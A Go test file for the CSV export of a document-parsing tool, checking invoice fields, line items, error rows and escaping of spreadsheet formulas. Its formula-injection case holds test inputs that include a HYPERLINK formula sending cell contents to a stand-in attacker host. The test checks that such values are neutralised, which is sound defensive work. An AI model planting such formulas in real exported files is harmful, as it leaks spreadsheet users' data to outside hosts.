package output

import (
	"encoding/json"
	"errors"
	"github.com/docuparse/docuparse-ingest/internal/vocab"
	"reflect"
	"slices"
	"testing"
	"time"
)

// field returns the cell of rec under the column name of header.
func field(t *testing.T, header, rec []string, name string) string {
	t.Helper()
	i := slices.Index(header, name)
	if i < 0 {
		t.Fatalf("no column %q", name)
	}
	return rec[i]
}

func TestHeadersAreTheDesignsColumns(t *testing.T) {
	const docs = "document_id,status,source,file_name,sha256,size_bytes,batch_id,submitted_at,completed_at," +
		"result_via,document_type,merchant,invoice_id,date,due_date,currency,subtotal,tax,total," +
		"payment_method,line_item_count,error_code,error_message"
	if got := joinComma(DocumentsHeader); got != docs {
		t.Errorf("DocumentsHeader = %s", got)
	}
	if got := joinComma(LineItemsHeader); got != "document_id,line_no,description,quantity,unit_price,total" {
		t.Errorf("LineItemsHeader = %s", got)
	}
}

func joinComma(s []string) string {
	out := ""
	for i, c := range s {
		if i > 0 {
			out += ","
		}
		out += c
	}
	return out
}

func TestDocumentRecord(t *testing.T) {
	tests := []struct {
		name string
		doc  Document
		want map[string]string
	}{
		{
			name: "a completed document gives its extracted fields with money as sent",
			doc:  completedDoc(),
			want: map[string]string{
				"document_id": "doc_clx7abc123", "status": "completed", "size_bytes": "48213",
				"batch_id": "batch_abc789", "submitted_at": "2026-05-19T14:31:02.000Z",
				"completed_at": "2026-05-19T14:32:00.500Z", "result_via": "webhook",
				"document_type": "invoice", "merchant": "Riverside Consulting LLC",
				"invoice_id": "INV-2026-0091", "date": "2026-05-01", "due_date": "2026-05-31",
				"currency": "USD", "subtotal": "3500.00", "tax": "350.00", "total": "3850.00",
				"payment_method": "", "line_item_count": "2", "error_code": "", "error_message": "",
			},
		},
		{
			name: "a failed document has its reason and no extracted fields",
			doc:  failedDoc(),
			want: map[string]string{
				"document_id": "doc_clx7abc456", "status": "failed", "result_via": "poll",
				"merchant": "", "total": "", "line_item_count": "",
				"error_code": "EXTRACTION_FAILED", "error_message": "Document extraction failed for this file.",
			},
		},
		{
			name: "a rejected file has no document id, no times of submission, and its reason",
			doc:  rejectedDoc(),
			want: map[string]string{
				"document_id": "", "status": "rejected", "submitted_at": "", "batch_id": "",
				"result_via": "", "line_item_count": "", "error_code": "FILE_TOO_LARGE",
			},
		},
		{
			name: "a duplicate names the original and never repeats its totals",
			doc:  duplicateDoc(),
			want: map[string]string{
				"document_id": "doc_clx7abc123", "status": "duplicate", "total": "", "subtotal": "",
				"tax": "", "merchant": "", "document_type": "", "line_item_count": "",
			},
		},
		{
			name: "absent fields are empty and a document without line items counts zero",
			doc: Document{LocalRef: "r", DocumentID: "doc_t", Status: vocab.StateCompleted,
				Data: json.RawMessage(`{"merchant":"Test Vendor","total":"100.00","currency":"USD","date":"2026-05-19"}`)},
			want: map[string]string{
				"merchant": "Test Vendor", "total": "100.00", "subtotal": "", "tax": "",
				"invoice_id": "", "payment_method": "", "line_item_count": "0",
				"submitted_at": "", "completed_at": "", "size_bytes": "0",
			},
		},
		{
			name: "a completed document with null data has empty fields",
			doc:  Document{LocalRef: "r", DocumentID: "doc_n", Status: vocab.StateCompleted, Data: json.RawMessage(" null ")},
			want: map[string]string{"merchant": "", "total": "", "line_item_count": "0"},
		},
		{
			name: "times are written in UTC",
			doc: Document{LocalRef: "r", Status: vocab.StateRejected,
				CompletedAt: time.Date(2026, 11, 28, 1, 30, 0, 0, time.FixedZone("CET", 3600))},
			want: map[string]string{"completed_at": "2026-11-28T00:30:00.000Z"},
		},
		{
			name: "a payment method is kept, money with many decimals too",
			doc: Document{LocalRef: "r", DocumentID: "doc_p", Status: vocab.StateCompleted,
				Data: json.RawMessage(`{"payment_method":"bank_transfer","total":"0.1000000000000000055511151231257827"}`)},
			want: map[string]string{"payment_method": "bank_transfer", "total": "0.1000000000000000055511151231257827"},
		},
		{
			name: "formula-like cells are neutralised, negative amounts are not",
			doc:  formulaDoc(),
			want: map[string]string{
				"file_name": "'=cmd.pdf", "merchant": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
				"invoice_id": "'+1234567", "due_date": "'@SUM(A1:A9)", "currency": "'\tUSD",
				"subtotal": "-50.00", "tax": "-0.00", "total": "-50.00", "payment_method": "'-2+3",
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rec, err := DocumentRecord(tc.doc)
			if err != nil {
				t.Fatal(err)
			}
			if len(rec) != len(DocumentsHeader) {
				t.Fatalf("record has %d cells, header %d", len(rec), len(DocumentsHeader))
			}
			for col, want := range tc.want {
				if got := field(t, DocumentsHeader, rec, col); got != want {
					t.Errorf("%s = %q, want %q", col, got, want)
				}
			}
		})
	}
}

func TestDocumentRecordErrors(t *testing.T) {
	tests := []struct {
		name string
		doc  Document
		want error
	}{
		{"no status", Document{LocalRef: "r"}, ErrNoStatus},
		{"data is not JSON", Document{LocalRef: "r", Status: vocab.StateCompleted, Data: json.RawMessage(`{"total":`)}, ErrBadData},
		{"data is an array", Document{LocalRef: "r", Status: vocab.StateCompleted, Data: json.RawMessage(`[1,2]`)}, ErrBadData},
		{"money is a float", Document{LocalRef: "r", Status: vocab.StateCompleted, Data: json.RawMessage(`{"total":3850.00}`)}, ErrBadData},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := DocumentRecord(tc.doc); !errors.Is(err, tc.want) {
				t.Fatalf("err = %v, want %v", err, tc.want)
			}
			if tc.want == ErrBadData {
				if _, err := LineItemRecords(tc.doc); !errors.Is(err, ErrBadData) {
					t.Errorf("LineItemRecords err = %v, want ErrBadData", err)
				}
			}
		})
	}
}

func TestLineItemRecords(t *testing.T) {
	got, err := LineItemRecords(completedDoc())
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"doc_clx7abc123", "1", "Strategy Consulting — May", "35", "100.00", "3500.00"},
		{"doc_clx7abc123", "2", "Travel", "1.50", "0.00", "0.00"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}

	got, err = LineItemRecords(formulaDoc())
	if err != nil {
		t.Fatal(err)
	}
	want = [][]string{
		{"doc_formula01", "1", "'\r=1+1", "-1", "50.00", "-50.00"},
		{"doc_formula01", "2", "'-refund", "2", "'+1", "'-1e3"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}

	for _, d := range []Document{failedDoc(), rejectedDoc(), duplicateDoc()} {
		got, err := LineItemRecords(d)
		if err != nil || got != nil {
			t.Errorf("%s: LineItemRecords = %q, %v; want nil, nil", d.Status, got, err)
		}
	}
}
